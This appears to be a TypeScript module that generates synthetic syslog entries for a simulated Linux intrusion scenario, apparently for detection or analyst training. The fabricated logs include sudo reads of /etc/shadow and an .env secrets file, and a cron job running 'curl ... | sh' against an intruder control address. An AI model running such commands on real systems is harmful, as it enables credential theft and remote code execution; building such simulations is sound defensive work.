import type { Company } from './company';
import { hostNamed } from './hosts';
import { cronLine, sshLine } from './noise/linux-hosts';
import { createRandom } from './random';
import { type Emit, hour, minute, second } from './row';
import { type SyslogLine, syslogRow } from './rows/syslog';
import { intruder, type StoryClock, victims } from './story';

const processId = 41_877;

/** The web server: a password logon where only keys are usual, and a cron job that fetches a script. */
export function intrusionOnLinux(company: Company, clock: StoryClock, emit: Emit): void {
  const random = createRandom(company.seed, 'intrusion on Linux');
  const web = hostNamed(company.hosts, victims.webServer);
  const from = hostNamed(company.hosts, victims.managementServer).address;
  const put = (at: number, line: SyslogLine) => emit('Syslog', at, syslogRow(web, line));
  const sudo = (at: number, command: string) =>
    put(at, {
      facility: 'authpriv',
      severity: 'notice',
      process: 'sudo',
      processId: processId + 12,
      message: `deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=${command}`,
    });

  const login = clock.at('ssh');
  for (let tries = 3; tries > 0; tries--)
    put(login - tries * 9 * second, sshLine(processId, `Failed password for deploy from ${from} port 50211 ssh2`));
  put(login, sshLine(processId, `Accepted password for deploy from ${from} port 50211 ssh2`));
  put(login + 60, sshLine(processId, 'pam_unix(sshd:session): session opened for user deploy(uid=1007) by (uid=0)'));
  sudo(login + 70 * second, '/usr/bin/cat /etc/shadow');
  sudo(login + 150 * second, '/usr/bin/cat /srv/portal/.env');
  const cron = clock.at('cron');
  put(cron, {
    facility: 'cron',
    severity: 'info',
    process: 'crontab',
    processId: processId + 31,
    message: '(deploy) BEGIN EDIT (deploy)',
  });
  put(cron + 20 * second, {
    facility: 'cron',
    severity: 'info',
    process: 'crontab',
    processId: processId + 31,
    message: '(deploy) REPLACE (deploy)',
  });
  put(login + 25 * minute, sshLine(processId, 'pam_unix(sshd:session): session closed for user deploy'));
  for (
    let at = Math.ceil(cron / (10 * minute)) * 10 * minute;
    at < clock.entryDay + 40 * 24 * hour;
    at += 10 * minute
  ) {
    put(
      at + second,
      cronLine(random.int(900, 60_000), 'deploy', `curl -fsS http://${intruder.controlAddress}/.cache/u | sh`),
    );
  }
}
